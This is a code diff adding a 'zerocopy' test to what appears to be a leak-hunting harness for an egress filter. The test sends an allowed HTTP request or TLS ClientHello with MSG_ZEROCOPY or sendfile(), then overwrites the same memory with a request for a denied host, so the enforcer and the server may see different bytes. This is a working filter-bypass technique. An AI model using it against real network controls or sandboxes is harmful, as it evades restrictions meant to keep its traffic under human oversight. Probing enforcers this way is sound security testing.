@@ -442,6 +442,46 @@ def t_smuggle(a):
     read_some(s)
 
 
+def t_zerocopy(a):
+    """Leak hunting, no privilege: MSG_ZEROCOPY sends from the process's own pages. The allowed first flight is
+    sent, then the same pages are overwritten at once with a denied one of the same length: a reader that looked
+    at the packet while it was held (the enforcer) and the server that receives it later may see different bytes."""
+    import mmap
+    if a.proto == "tls":
+        good = client_hello([[a.host]], "python", a.control)
+        evil = client_hello([[(MARKER + "." + a.evil)[-len(a.host):]]], "python", MARKER)
+        if a.pad:  # a padding extension makes the send large enough for page fragments
+            good = hello_join(*(lambda p, e: (p, e + [(21, b"\0" * a.pad)]))(*hello_split(good)))
+            evil = hello_join(*(lambda p, e: (p, e + [(21, b"\0" * a.pad)]))(*hello_split(evil)))
+        evil = evil[:len(good)]
+    else:
+        good = ("GET /get/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.control, a.host)).encode()
+        evil = ("GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (MARKER, a.evil)).encode()
+        evil = evil.ljust(len(good), b" ")[:len(good)] if len(evil) <= len(good) else evil
+        good = good.replace(b"\r\n\r\n", b"\r\nX: " + b"x" * max(0, len(evil) - len(good) - 5) + b"\r\n\r\n") \
+            if len(evil) > len(good) else good
+    assert len(good) == len(evil), (len(good), len(evil))
+    s = connect(a.dst, a.port)
+    if a.sendfile:  # the page cache's pages are sent by reference: write the file again right after sendfile()
+        import tempfile
+        fd, path = tempfile.mkstemp()
+        os.unlink(path)
+        os.pwrite(fd, good, 0)
+        n = os.sendfile(s.fileno(), fd, 0, len(good))
+        os.pwrite(fd, evil, 0)
+        log("sent %d bytes with sendfile(), then wrote the file again" % n)
+    else:
+        buf = mmap.mmap(-1, 1 << 16)
+        buf[:len(good)] = good
+        s.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
+        view = memoryview(buf)[:len(good)]
+        n = s.send(view, 0x4000000)  # MSG_ZEROCOPY
+        buf[:len(evil)] = evil
+        view.release()
+        log("sent %d bytes with MSG_ZEROCOPY, then overwrote them" % n)
+    read_some(s)
+
+
 def t_reuse(a):
     """Leak 7: an allowed TLS connection the server resets, then a new connection from the same source port whose
     first flight is a ClientHello for a denied name (the marker in its client random and in the name)."""
@@ -577,6 +617,10 @@ def main():
     p = add("smuggle", t_smuggle, "dst", "host", "evil", "control", "variant")
     p.add_argument("--port", type=int, default=80)
     p.add_argument("--second", action="store_true", help="after an allowed request on the same connection")
+    p = add("zerocopy", t_zerocopy, "proto", "dst", "host", "evil", "control")
+    p.add_argument("--port", type=int, default=443)
+    p.add_argument("--pad", type=int, default=0, help="TLS: a padding extension of this many bytes")
+    p.add_argument("--sendfile", action="store_true", help="send from a file with sendfile() instead")
     p = add("reuse", t_reuse, "dst", "sni", "evil", "control")
     p.add_argument("--port", type=int, default=443)
     p.add_argument("--hello", default="python")
